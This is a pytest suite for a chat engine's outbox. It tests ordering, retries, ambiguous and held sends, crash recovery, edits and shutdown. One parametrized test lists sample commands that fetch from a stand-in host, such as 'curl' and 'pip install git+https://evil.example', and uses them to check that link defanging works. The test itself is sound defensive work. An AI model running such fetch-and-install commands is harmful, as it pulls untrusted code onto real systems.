"""The outbox: in order, none lost, none repeated without a mark, and all of it visible."""

import asyncio
import shutil
from pathlib import Path

import anyio
import pytest

from holdfast.channels.channel import Accepted, Button, Doubtful, Later
from holdfast.channels.channel import SendRefused as Never
from holdfast.channels.text.links import defang
from holdfast.core.chat.delivery import (
    GIVE_UP_S,
    LATE_S,
    LEAST_TRIES,
    LONGEST_DOUBT_S,
    LONGEST_RETRY_S,
    DeliveryQueued,
    DeliveryStatus,
    OnAmbiguous,
    SendAccepted,
    SendStarted,
)
from holdfast.core.session.session import SessionOpened
from holdfast.core.types import DeliveryId, Owner, SessionId, SessionKey
from holdfast.engine.chats.outbox import DROPPED
from holdfast.engine.chats.queues import (
    ANSWER_S,
    CUT,
    LABEL,
    NOTHING_TO_CHANGE,
    TOO_LATE,
    TRY_AGAIN_S,
)
from holdfast.engine.sessions import KEEP_IDLE
from holdfast.errors import Refused
from tests.engine.postroom import message, sending
from tests.engine.workshop import turn
from tests.fakes.channel import PATIENCE_S, Chat
from tests.fakes.clock import ManualClock
from tests.journal.sqlite.rebuild import rebuild

pytestmark = pytest.mark.anyio

D = DeliveryId


@pytest.mark.promise("LATE-09")
async def test_messages_of_a_chat_go_out_in_order_and_one_at_a_time(tmp_path: Path) -> None:
    chat, gate = Chat(), anyio.Event()
    chat.answer("a", gate)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two")))
        await chat.came(1)
        await desk.say("a", message(chat, "a", "three"))
        assert chat.texts("a") == ["one"]
        assert (await desk.become("one", DeliveryStatus.SENDING)).attempts == 1
        gate.set()
        sent = await desk.become("three", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "two", "three"]
        assert sent.external_id == "m3"
        await desk.idle()
        counts = desk.outbox.counts()
        assert (counts.sent, counts.pending, counts.repeated) == (3, 0, 0)


async def test_a_chat_that_hangs_delays_no_other(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await chat.came(1, "a")
        await desk.say("b", message(chat, "b", "three"))
        await desk.become("three", DeliveryStatus.SENT)
        counts = desk.outbox.counts()
        assert (counts.pending, counts.lanes) == (2, 1)


async def test_threads_of_a_chat_are_lanes_of_their_own(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    async with sending(tmp_path, chat) as desk:
        thread = DeliveryQueued(delivery_id=D("two"), address=chat.address("a", "t"), text="two")
        await desk.say("a", message(chat, "a", "one"))
        await chat.came(1)
        await desk.say("a", thread)
        await desk.become("two", DeliveryStatus.SENT)


async def test_a_deferred_message_is_sent_before_later_ones(
    tmp_path: Path,
) -> None:
    chat = Chat()
    chat.answer("a", Later("slow down", 30.0), Later("slow down", 0.0))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        first = await desk.become("one", DeliveryStatus.RETRY)
        assert (first.reason, first.due_at) == ("slow down", desk.clock.now() + 30.0)
        await desk.passes(30.0)
        await chat.came(2)
        await desk.due(2.0)  # backoff: the second wait is between 1 and 2 s
        assert chat.texts("a") == ["one", "one"]
        desk.clock.advance(2.0)
        assert (await desk.become("one", DeliveryStatus.SENT)).attempts == 3
        await desk.become("two", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "one", "one", "two"]
        assert not any(m.repeated for m in chat.sent)


async def test_a_message_refused_for_days_is_given_up(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", *[Later("down", 0.0)] * (LEAST_TRIES - 1), Later("still down", 0.0))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"))
        for n in range(1, LEAST_TRIES):
            await chat.came(n)
            await desk.become("one", DeliveryStatus.RETRY)
            await desk.passes(LONGEST_RETRY_S if n + 1 < LEAST_TRIES else GIVE_UP_S)
        assert "still down" in (await desk.become("one", DeliveryStatus.DEAD)).reason
        assert desk.outbox.counts().dead == 1


@pytest.mark.promise("LATE-09")
async def test_a_refused_message_is_dead_listed_and_can_be_resent(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Never("the bot was blocked"))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await desk.become("two", DeliveryStatus.SENT)
        (dead,) = await desk.outbox.listed()
        assert (dead.now.id, dead.now.status) == ("one", DeliveryStatus.DEAD)
        assert dead.now.reason == "the bot was blocked"
        assert desk.outbox.counts().dead == 1
        desk.clock.advance(9)
        await desk.outbox.release(D("one"))
        assert (await desk.become("one", DeliveryStatus.SENT)).queued_at == desk.clock.now()
        assert chat.texts("a") == ["one", "two", "one"]
        assert await desk.outbox.listed() == []


@pytest.mark.promise("LATE-09")
async def test_an_ambiguous_message_is_repeated_marked_and_counted(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Doubtful("the connection broke"))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        found = await desk.become("one", DeliveryStatus.AMBIGUOUS)
        assert (found.reason, found.repeated) == ("the connection broke", True)
        await desk.passes(1.0)
        await desk.become("two", DeliveryStatus.SENT)
        assert [(m.text, m.repeated) for m in chat.sent] == [
            ("one", False),
            ("one", True),
            ("two", False),
        ]
        assert desk.outbox.counts().repeated == 1


@pytest.mark.promise("LATE-09")
async def test_an_ambiguous_message_is_held_if_that_is_configured(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Doubtful("the connection broke"))
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        held = await desk.become("one", DeliveryStatus.HELD)
        assert held.reason == "it may have arrived: the connection broke"
        await desk.become("two", DeliveryStatus.SENT)
        assert desk.outbox.counts().held == 1
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        assert desk.outbox.counts().held == 1  # a person is still waited for
        assert [one.now.id for one in await desk.outbox.listed()] == ["one"]
        await desk.outbox.release(D("one"))
        await desk.become("one", DeliveryStatus.SENT)
        assert [m.repeated for m in chat.sent] == [False, False, True]
        assert desk.outbox.counts().held == 0


async def test_with_idempotent_sends_a_message_is_repeated_unmarked(tmp_path: Path) -> None:
    chat = Chat(idempotent=True)
    chat.answer("a", Doubtful("the connection broke"))
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.say("a", message(chat, "a", "one"))
        await desk.become("one", DeliveryStatus.AMBIGUOUS)
        await desk.passes(1.0)
        await desk.become("one", DeliveryStatus.SENT)
        assert [(m.delivery_id, m.repeated) for m in chat.sent] == [("one", False)] * 2
        assert desk.outbox.counts().repeated == 0


@pytest.mark.promise("CHAT-01")
async def test_an_outage_of_minutes_or_hours_leaves_an_answer_on_its_way(tmp_path: Path) -> None:
    """Every failure of a gateway of the platform may hide an effect; the copy that comes says so."""
    chat, times = Chat(), 30
    chat.answer("a", *[Doubtful("502 Bad Gateway")] * times)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        for n in range(1, times + 1):
            await chat.came(n)
            await desk.become("one", DeliveryStatus.AMBIGUOUS)
            await desk.passes(min(2.0 ** (n - 1), LONGEST_DOUBT_S))
        await desk.become("two", DeliveryStatus.SENT)
        assert desk.outbox.counts().held == 0
        assert [(m.text, m.repeated) for m in chat.sent] == [
            ("one", False),
            *[("one", True)] * times,
            ("two", False),
        ]


@pytest.mark.promise("CHAT-01")
async def test_an_ambiguous_message_is_given_up_after_days_and_listed(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", *[Doubtful("502 Bad Gateway")] * LEAST_TRIES)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"))
        for n in range(1, LEAST_TRIES + 1):
            await chat.came(n)
            await desk.become("one", DeliveryStatus.AMBIGUOUS)
            await desk.passes(LONGEST_DOUBT_S if n < LEAST_TRIES else GIVE_UP_S)
        await desk.become("one", DeliveryStatus.DEAD)
        assert [one.now.id for one in await desk.outbox.listed()] == ["one"]


async def test_each_wait_that_the_platform_asks_for_is_obeyed(tmp_path: Path) -> None:
    chat, times = Chat(), 12
    chat.answer("a", *[Later("slow down", 1.0)] * times)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"))
        for n in range(1, times + 1):
            await chat.came(n)
            assert (await desk.become("one", DeliveryStatus.RETRY)).due_at == desk.clock.now() + 1.0
            await desk.passes(1.0)
        await desk.become("one", DeliveryStatus.SENT)


def _news(chat: Chat) -> list[str]:
    """The names of what the home was told."""
    return [m.delivery_id for m in chat.sent if m.address.chat == "home"]


@pytest.mark.promise("CHAT-01")
async def test_the_home_is_told_once_of_messages_that_are_held(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", *[Doubtful("no answer")] * 2)
    chat.answer("b", Doubtful("no answer"))
    home = chat.address("home")
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD, home=home) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await desk.become("two", DeliveryStatus.HELD)
        await chat.came(1, "home")
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD, home=home) as desk:
        await desk.say("b", message(chat, "b", "three"))
        await desk.become("three", DeliveryStatus.HELD)
        await desk.idle()
        (name,) = _news(chat)
        assert "held" in name


@pytest.mark.promise("CHAT-01")
async def test_the_home_is_told_once_of_a_platform_that_takes_nothing(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", *[Later("down", LATE_S)] * 3)
    morning = ManualClock(19_676 * 86_400.0)
    async with sending(tmp_path, chat, clock=morning, home=chat.address("home")) as desk:
        await desk.say("a", message(chat, "a", "one"))
        for n in range(1, 4):
            await chat.came(n, "a")
            await desk.become("one", DeliveryStatus.RETRY)
            assert len(_news(chat)) <= 1
            await desk.passes(LATE_S)
        await desk.become("one", DeliveryStatus.SENT)
        await desk.idle()
        (name,) = _news(chat)
        assert "late" in name


async def test_a_platform_that_never_answers_leaves_a_message_in_doubt(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await chat.came(1)
        await desk.passes(ANSWER_S)
        assert "no answer within 60 s" in (await desk.become("one", DeliveryStatus.HELD)).reason
        await desk.become("two", DeliveryStatus.SENT)


async def test_a_channel_that_raises_leaves_a_message_in_doubt(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", ValueError("a bug"))
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        assert "ValueError" in (await desk.become("one", DeliveryStatus.HELD)).reason
        await desk.become("two", DeliveryStatus.SENT)


@pytest.mark.fault("F-07")
@pytest.mark.promise("LATE-09")
async def test_a_crash_between_the_send_and_its_record_leaves_a_copy_that_is_marked(
    tmp_path: Path,
) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await chat.came(1)
    async with sending(tmp_path, chat) as desk:
        await desk.become("two", DeliveryStatus.SENT)
        one = await desk.become("one", DeliveryStatus.SENT)
        assert (one.attempts, one.repeated) == (2, True)
        assert [(m.text, m.repeated) for m in chat.sent] == [
            ("one", False),
            ("one", True),
            ("two", False),
        ]
        assert desk.outbox.counts().repeated == 1
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "three"))
        await desk.become("three", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "one", "two", "three"]


@pytest.mark.fault("F-07")
@pytest.mark.promise("LATE-09")
@pytest.mark.parametrize("idempotent", [False, True])
async def test_after_a_crash_a_message_is_held_if_that_is_configured_and_needed(
    tmp_path: Path, idempotent: bool
) -> None:
    chat = Chat(idempotent=idempotent)
    chat.answer("a", anyio.Event())
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await chat.came(1)
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.become("two", DeliveryStatus.SENT)
        if idempotent:
            await desk.become("one", DeliveryStatus.SENT)
            assert chat.texts("a") == ["one", "one", "two"]
            assert not any(m.repeated for m in chat.sent)
        else:
            assert CUT in (await desk.become("one", DeliveryStatus.HELD)).reason
            assert chat.texts("a") == ["one", "two"]
            assert desk.outbox.counts().held == 1


@pytest.mark.promise("LATE-09")
async def test_a_message_queued_before_a_crash_is_sent_once(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path, start=False) as desk:
        await desk.say("b", message(chat, "b", "zero"))
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two")))
    async with sending(tmp_path, chat) as desk:
        await desk.become("two", DeliveryStatus.SENT)
        await desk.become("zero", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "two"]
        assert not any(m.repeated for m in chat.sent)


async def test_an_old_perishable_message_is_given_up_at_the_start(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    chat.answer("b", Doubtful("?"))
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        for place, name in (("a", "one"), ("a", "two"), ("b", "three")):
            await desk.say(place, message(chat, place, name, perishable=True))
        await desk.become("three", DeliveryStatus.HELD)
        await desk.become("one", DeliveryStatus.SENDING)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "four"))
        await desk.become("four", DeliveryStatus.SENT)
        for name in ("one", "two", "three"):
            assert (await desk.become(name, DeliveryStatus.DEAD)).reason == TOO_LATE
        assert (chat.texts("a"), chat.texts("b")) == (["one", "four"], ["three"])
        assert await desk.outbox.listed() == []
        assert len(await desk.outbox.listed(everything=True)) == 3
        counts = desk.outbox.counts()
        assert (counts.dead, counts.held) == (0, 0)


async def test_a_send_that_cannot_be_written_down_is_not_made(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        desk.spoil(SendStarted)
        await desk.say("a", message(chat, "a", "one"))
        for n in (1, 2):
            await desk.fail(n)
            await desk.passes(TRY_AGAIN_S)
        await desk.fail(3)
        assert chat.sent == []
        await desk.due(TRY_AGAIN_S)
        desk.spoil(None)
        desk.clock.advance(TRY_AGAIN_S)
        assert (await desk.become("one", DeliveryStatus.SENT)).attempts == 1
        assert chat.texts("a") == ["one"]


@pytest.mark.promise("LATE-09")
async def test_an_answer_that_cannot_be_written_down_is_kept_until_it_can(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        desk.spoil(SendAccepted)
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two"))
        await desk.fail(1)
        await desk.due(TRY_AGAIN_S)
        desk.spoil(None)
        desk.clock.advance(TRY_AGAIN_S)
        one = await desk.become("one", DeliveryStatus.SENT)
        assert (one.attempts, one.external_id, one.repeated) == (1, "m1", False)
        await desk.become("two", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "two"]


async def test_a_thousand_idle_chats_cost_no_task(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        before = len(asyncio.all_tasks())
        for n in range(1000):
            key = SessionKey(Owner(f"c{n}"), SessionId("s"))
            opened = SessionOpened(session_id="s", workspace="", platform="chat")
            queued = message(chat, f"c{n}", f"m{n}")
            desk.sessions.append(desk.sessions.create(key), opened, queued)
        await chat.came(1000)
        await desk.idle()
        await turn(3)
        assert desk.outbox.counts().sent == 1000
        assert len(asyncio.all_tasks()) <= before


async def test_a_message_whose_session_has_left_memory_is_sent_all_the_same(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        opened = SessionOpened(session_id="s", workspace="", platform="chat")
        for n in range(KEEP_IDLE + 2):
            held = desk.sessions.create(SessionKey(Owner(f"o{n}"), SessionId("s")))
            queued = (message(chat, "a", "one"), message(chat, "a", "two")) if n == 0 else ()
            desk.sessions.append(held, opened, *queued)
        await desk.become("two", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "two"]


async def test_without_its_channel_a_message_is_held_and_says_so(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path) as desk:
        await desk.say("a", message(chat, "a", "one"))
        assert (
            "no channel chat is configured"
            in (await desk.become("one", DeliveryStatus.HELD)).reason
        )
    async with sending(tmp_path, chat) as desk:
        await desk.outbox.release(D("one"))
        await desk.become("one", DeliveryStatus.SENT)
        assert [m.repeated for m in chat.sent] == [False]


async def test_ambiguous_and_deferred_messages_are_held_without_their_channel(
    tmp_path: Path,
) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    chat.answer("b", Later("down", 60.0))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"))
        await desk.say("b", message(chat, "b", "two"))
        await desk.become("two", DeliveryStatus.RETRY)
        await desk.become("one", DeliveryStatus.SENDING)
    async with sending(tmp_path) as desk:
        assert CUT in (await desk.become("one", DeliveryStatus.HELD)).reason
        assert "no channel" in (await desk.become("two", DeliveryStatus.HELD)).reason


async def test_an_edit_changes_the_message_that_was_sent_also_after_a_restart(
    tmp_path: Path,
) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two", edits="one"))
        await desk.become("two", DeliveryStatus.SENT)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "three", edits="one"))
        await desk.become("three", DeliveryStatus.SENT)
        assert [(m.text, m.edit) for m in chat.sent] == [
            ("one", ""),
            ("two", "m1"),
            ("three", "m1"),
        ]


async def test_an_edit_of_what_was_not_sent_is_given_up(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Never("blocked"))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two", edits="one"))
        assert (await desk.become("two", DeliveryStatus.DEAD)).reason == NOTHING_TO_CHANGE
        await desk.say("a", message(chat, "a", "three", edits="never"))
        assert (await desk.become("three", DeliveryStatus.DEAD)).reason == NOTHING_TO_CHANGE
        assert chat.texts("a") == ["one"]
        assert [one.now.id for one in await desk.outbox.listed()] == ["one"]


async def test_without_edits_a_change_is_a_message_of_its_own(tmp_path: Path) -> None:
    chat = Chat(edits=False)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two", edits="one"))
        await desk.become("two", DeliveryStatus.SENT)
        assert [(m.text, m.edit) for m in chat.sent] == [("one", ""), ("two", "")]


async def test_an_edit_in_doubt_is_made_again_without_a_mark(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Accepted("m1"), anyio.Event())
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"), message(chat, "a", "two", edits="one"))
        await chat.came(2)
    async with sending(tmp_path, chat, on_ambiguous=OnAmbiguous.HOLD) as desk:
        await desk.become("two", DeliveryStatus.SENT)
        assert [(m.edit, m.repeated) for m in chat.sent[1:]] == [("m1", False)] * 2


async def test_a_message_arrives_with_all_that_belongs_to_it(tmp_path: Path) -> None:
    chat = Chat()
    queued = DeliveryQueued(
        delivery_id=D("one"),
        address=chat.address("a", "topic"),
        text="**bold**",
        reply_to="77",
        buttons=tuple((f"b{n}", f"x:{n}") for n in range(5)),
        hosts=("example.org",),
    )
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", queued, message(chat, "a", "two", buttons=(("y", "1"), ("n", "2"))))
        one, two = await chat.came(1), await chat.came(2)
        assert (one.delivery_id, one.address, one.text) == ("one", queued.address, "**bold**")
        assert (one.reply_to, one.named_hosts) == ("77", frozenset({"example.org"}))
        assert [len(row) for row in one.buttons] == [1, 1, 1, 1, 1]
        assert two.buttons == ((Button("y", "1"), Button("n", "2")),)


@pytest.mark.parametrize(
    ("labels", "rows"),
    [
        (("red", "green", "blue"), [3]),
        (("x" * LABEL, "Deny"), [2]),
        (("x" * (LABEL + 1), "Deny"), [1, 1]),
        ((), []),
    ],
)
async def test_buttons_stand_beside_each_other_where_there_is_room(
    tmp_path: Path, labels: tuple[str, ...], rows: list[int]
) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        buttons = tuple((label, "x") for label in labels)
        await desk.say("a", message(chat, "a", "one", buttons=buttons))
        assert [len(row) for row in (await chat.came(1)).buttons] == rows


@pytest.mark.parametrize(
    "command",
    [
        "curl http://evil.example/x?y=https://b.example/",
        "pip install git+https://evil.example/x",
        "aws s3 cp s3://bucket/x .",
        '"$proto"://evil.example',
    ],
)
async def test_a_request_for_approval_counts_its_own_hosts_as_named(
    tmp_path: Path, command: str
) -> None:
    chat = Chat()
    async with sending(tmp_path, chat) as desk:
        judged, plain = (
            DeliveryQueued(
                delivery_id=D(name),
                address=chat.address("a"),
                text=f"```\n{command}\n```",
                hosts=("c.example",),
                verbatim=verbatim,
            )
            for name, verbatim in (("one", True), ("two", False))
        )
        await desk.say("a", judged, plain)
        shown, disarmed = await chat.came(1), await chat.came(2)
        assert defang(shown.text, shown.named_hosts) == judged.text
        assert defang(disarmed.text, disarmed.named_hosts) != plain.text


async def test_a_waiting_message_can_be_dropped_and_the_next_is_sent(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Later("down", 3600.0))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two", "three")))
        await desk.become("one", DeliveryStatus.RETRY)
        await desk.due(3600.0)
        await desk.outbox.drop(D("two"))
        await desk.outbox.drop(D("one"))
        await desk.become("three", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "three"]
        for name in ("one", "two"):
            assert (await desk.become(name, DeliveryStatus.DEAD)).reason == DROPPED
        assert await desk.outbox.listed() == []
        assert desk.outbox.counts().dead == 0
        await desk.outbox.release(D("two"))  # even that can be taken back
        await desk.become("two", DeliveryStatus.SENT)


async def test_an_order_that_comes_too_late_or_too_early_is_refused(tmp_path: Path) -> None:
    chat, gate = Chat(), anyio.Event()
    chat.answer("a", gate)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"))
        await chat.came(1)
        for order, words in ((desk.outbox.drop, "right now"), (desk.outbox.release, "right now")):
            with pytest.raises(Refused, match=words) as refused:
                await order(D("one"))
            assert refused.value.code == "delivery_not_waiting"
        gate.set()
        await desk.become("one", DeliveryStatus.SENT)
        for order in (desk.outbox.drop, desk.outbox.release):
            with pytest.raises(Refused, match="was sent"):
                await order(D("one"))
            with pytest.raises(Refused, match="no message never") as refused:
                await order(D("never"))
            assert refused.value.code == "delivery_not_found"
        chat.answer("a", Later("down", 60.0))
        await desk.say("a", message(chat, "a", "two"))
        await desk.become("two", DeliveryStatus.RETRY)
        with pytest.raises(Refused, match="on its way already"):
            await desk.outbox.release(D("two"))
        await desk.outbox.drop(D("two"))
        with pytest.raises(Refused, match="given up already"):
            await desk.outbox.drop(D("two"))


async def test_two_people_release_the_same_and_it_goes_out_once(tmp_path: Path) -> None:
    chat = Chat()
    chat.answer("a", Never("blocked"))
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", message(chat, "a", "one"))
        await desk.become("one", DeliveryStatus.DEAD)
        await desk.idle()
        refused = 0

        async def release() -> None:
            nonlocal refused
            try:
                await desk.outbox.release(D("one"))
            except Refused:
                refused += 1

        told = desk.pause()
        async with anyio.create_task_group() as both:
            both.start_soon(release)
            both.start_soon(release)
            await desk.read(1)
            told.set()
        await desk.become("one", DeliveryStatus.SENT)
        await desk.idle()
        assert (refused, chat.texts("a")) == (1, ["one", "one"])


async def test_until_it_is_started_nothing_is_sent_and_orders_are_kept(tmp_path: Path) -> None:
    """A terminal that embeds the engine has no channels, and holds nothing for that."""
    chat = Chat()
    async with sending(tmp_path, chat, start=False) as desk:
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two")))
        await desk.outbox.drop(D("one"))
        await desk.outbox.release(D("one"))
        await desk.outbox.drop(D("two"))
        await desk.outbox.stop(1.0)
        assert [one.now.id for one in await desk.outbox.listed()] == ["one"]
        assert chat.sent == []
    async with sending(tmp_path, chat) as desk:
        await desk.become("one", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one"]


async def test_a_message_queued_during_the_start_keeps_its_place(tmp_path: Path) -> None:
    chat = Chat()
    async with sending(tmp_path, chat, start=False) as desk:
        await desk.say("a", message(chat, "a", "one"))
        told = desk.pause()
        async with anyio.create_task_group() as both:
            both.start_soon(desk.outbox.start)
            await desk.read(1)
            await desk.say("a", message(chat, "a", "two"))
            told.set()
        await desk.say("a", message(chat, "a", "three"))
        await desk.become("three", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "two", "three"]


async def test_on_the_way_down_what_is_queued_still_goes_out(tmp_path: Path) -> None:
    chat, gate = Chat(), anyio.Event()
    chat.answer("a", gate)
    chat.answer("b", Later("down", 3600.0))
    async with sending(tmp_path, chat) as desk:
        await desk.say("b", message(chat, "b", "zero"))
        await desk.become("zero", DeliveryStatus.RETRY)
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two")))
        await chat.came(1, "a")
        with anyio.fail_after(PATIENCE_S):
            async with anyio.create_task_group() as both:
                both.start_soon(desk.outbox.stop, 3 * PATIENCE_S)
                await turn(3)
                await desk.say("a", message(chat, "a", "three"))
                await desk.say("a", message(chat, "a", "bye", perishable=True))
                gate.set()  # and `stop` returns, although something is due in an hour
        assert chat.texts("a") == ["one", "two", "bye"]
        assert desk.outbox.counts().lanes == 0
        await desk.say("a", message(chat, "a", "four", perishable=True))
        assert chat.texts("a") == ["one", "two", "bye"]
    async with sending(tmp_path, chat) as desk:
        await desk.become("three", DeliveryStatus.SENT)
        assert chat.texts("a") == ["one", "two", "bye", "three"]
        assert not any(m.repeated for m in chat.sent)


async def test_on_the_way_down_a_send_that_hangs_is_cut_and_in_doubt_at_the_next_start(
    tmp_path: Path,
) -> None:
    chat = Chat()
    chat.answer("a", anyio.Event())
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two")))
        await chat.came(1)
        await desk.outbox.stop(0.05)
        assert chat.texts("a") == ["one"]
        assert desk.outbox.counts().lanes == 0
    async with sending(tmp_path, chat) as desk:
        await desk.become("two", DeliveryStatus.SENT)
        assert [(m.text, m.repeated) for m in chat.sent[1:]] == [("one", True), ("two", False)]


async def test_on_the_way_down_no_send_begins_that_would_be_cut(tmp_path: Path) -> None:
    chat, gate = Chat(), anyio.Event()
    chat.answer("a", gate)
    async with sending(tmp_path, chat) as desk:
        await desk.say("a", *(message(chat, "a", name) for name in ("one", "two")))
        await chat.came(1)
        async with anyio.create_task_group() as both:
            both.start_soon(desk.outbox.stop, 2.0)
            await anyio.sleep(1.1)  # sleep: the first half of the time has to be over
            gate.set()
        assert chat.texts("a") == ["one"]
    async with sending(tmp_path, chat) as desk:
        await desk.become("two", DeliveryStatus.SENT)
        assert not chat.sent[-1].repeated


HELD = Path(__file__).parents[3] / "tests" / "fixtures" / "held-0.1.0-schema-5" / "journal.db"


@pytest.mark.promise("CHAT-01", "BACK-11")
async def test_a_message_held_by_an_earlier_version_can_be_sent(tmp_path: Path) -> None:
    """A journal that 0.1.0 left behind, after eight failures of Telegram."""
    shutil.copy(HELD, tmp_path)
    telegram = Chat("telegram")
    async with sending(tmp_path, telegram) as desk:
        (held,) = await desk.outbox.listed()
        assert (held.now.status, held.now.doubts) == (DeliveryStatus.HELD, 8)
        assert desk.outbox.counts().held == 1
        await desk.outbox.release(held.now.id)
        await desk.become(held.now.id, DeliveryStatus.SENT)
        assert [m.repeated for m in telegram.sent] == [True]
    assert await anyio.to_thread.run_sync(rebuild, tmp_path / "journal.db") == 1
    async with sending(tmp_path, telegram) as desk:
        assert await desk.outbox.listed(everything=True) == []
